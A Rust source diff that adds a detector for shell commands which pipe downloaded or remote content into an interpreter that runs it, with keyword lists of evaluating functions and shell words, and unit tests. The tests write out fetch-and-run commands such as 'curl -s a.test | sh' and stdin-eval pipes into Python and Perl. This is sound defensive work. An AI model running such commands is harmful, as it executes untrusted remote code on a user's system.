@@ -52,6 +52,86 @@ pub(crate) fn is_nobodys_recipe(matched: &str) -> bool {
     is_no_usual_source(matched)
 }
 
+/// Substrings of programs that may run what they read, other than shell scripts.
+const EVALUATES: &[&str] = &[
+    "exec",
+    "eval",
+    "system",
+    "popen",
+    "spawn",
+    "subprocess",
+    "child_process",
+    "Function(",
+    "FunctionType",
+    "runIn",
+    "runpy",
+    "interact",
+    "runsource",
+    "__import__",
+    "importlib",
+    "import_module",
+    "getattr",
+    "builtins",
+    "globals",
+    "pickle",
+    "marshal",
+    "yaml.load(",
+    "chr(",
+    "ctypes",
+    "require_relative",
+    "qx",
+    "%x",
+    "`",
+    "$(",
+];
+
+/// Words of shell scripts that may run what they read.
+const SHELLS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "eval", "source", "xargs", "stdin", "read", "mapfile", "parallel", "env",
+    "sudo", "exec", "command", "python", "python3", "node", "perl", "ruby", "php", "tee", "dd",
+];
+
+/// Returns true if a download from an unknown host is run, and not read by a program in the command.
+pub(crate) fn runs_what_strangers_send(matched: &str) -> bool {
+    let is_piped = ["curl", "wget"].iter().any(|program| matched.trim_start_matches("\\n").starts_with(program));
+    names_unknown_host(matched) && (!is_piped || runs_its_input(matched))
+}
+
+/// Returns true if an interpreter behind a pipe may run what it receives. With a program in the command, as in `python3
+/// -c "…"`, it runs that program and reads the rest as data, unless the program evaluates it.
+pub(crate) fn runs_its_input(matched: &str) -> bool {
+    written_program(matched).is_none_or(|(is_shell, program)| {
+        if is_shell {
+            let mut words = program.split(|c: char| !c.is_alphanumeric());
+            program.contains(['$', '`', '<', '/']) || words.any(|word| SHELLS.contains(&word))
+        } else {
+            program.starts_with("\"$") || EVALUATES.iter().any(|word| program.contains(word))
+        }
+    })
+}
+
+/// Returns the quoted program with which a command ends, such as `sort -u` in `x | sh -c 'sort -u'`, with true if a shell
+/// runs it.
+fn written_program(matched: &str) -> Option<(bool, &str)> {
+    let mark = matched.chars().next_back().filter(|last| matches!(last, '"' | '\''))?;
+    let is_before = |word: &&str| matches!(*word, "sudo" | "env") || word.starts_with('-') || word.contains('=');
+    let mut rest = matched;
+    while let Some((_, command)) = rest.split_once('|') {
+        let name = command.split_whitespace().find(|word| !is_before(word))?;
+        let is_shell = name.ends_with("sh");
+        if is_shell || ["python", "node", "perl", "ruby"].iter().any(|other| name.starts_with(other)) {
+            let (head, _) = command.split_once(mark)?;
+            let letter = if is_shell || name.starts_with("python") { 'c' } else { 'e' };
+            let option =
+                head.trim_end_matches('\\').split_whitespace().next_back().filter(|word| word.starts_with('-'))?;
+            let is_code = option.ends_with([letter, letter.to_ascii_uppercase()]);
+            return is_code.then(|| (is_shell, command.get(head.len()..).unwrap_or("")));
+        }
+        rest = command;
+    }
+    None
+}
+
 /// Returns true if the command does not search for such an object.
 pub(crate) fn is_no_search(matched: &str) -> bool {
     !matched.contains("grep")
@@ -60,6 +140,38 @@ pub(crate) fn is_no_search(matched: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn written_program_reads_its_input_as_data() {
+        for data in [
+            r#"ssh h cat x | python3 -c "import json, sys; print(json.load(sys.stdin))""#,
+            "ssh h cat x | sudo -E python3 -u -c 'import sys'",
+            "ssh h cat x | base64 -d | perl -ne 'print'",
+            r#"ssh h "cat x | python3 -c \"import json, sys\""#,
+            "ssh h cat x | node -e 'process.stdin.pipe(process.stdout)'",
+            "ssh h cat x | ruby -e 'puts $stdin.read'",
+            "ssh h cat x | bash -c 'sort | uniq'",
+            "curl -s a.test | tee x | sudo /bin/bash -c 'sort'",
+        ] {
+            assert!(!runs_its_input(data), "{data}");
+        }
+        for code in [
+            "ssh h cat x | sudo sh",
+            "ssh h cat x | python3",
+            "ssh h cat x | python3 -c 'import sys; exec(sys.stdin.read())'",
+            "ssh h cat x | python3 -c \"$PROGRAM\"",
+            "ssh h cat x | python3 -c 'print(1)' | bash",
+            "ssh h cat x | perl -e 'eval <STDIN>'",
+            "ssh h cat x | bash -c \"$(cat)\"",
+            "ssh h cat x | bash -c 'sh'",
+            "ssh h cat x | bash -e 'x'",
+            "ssh h cat x | perl -c 'x'",
+            "'curl -s a.test | node'",
+            "\"curl -s a.test | sh\"",
+        ] {
+            assert!(runs_its_input(code), "{code}");
+        }
+    }
 
     #[test]
     fn a_known_host_is_matched_whole_and_over_tls() {
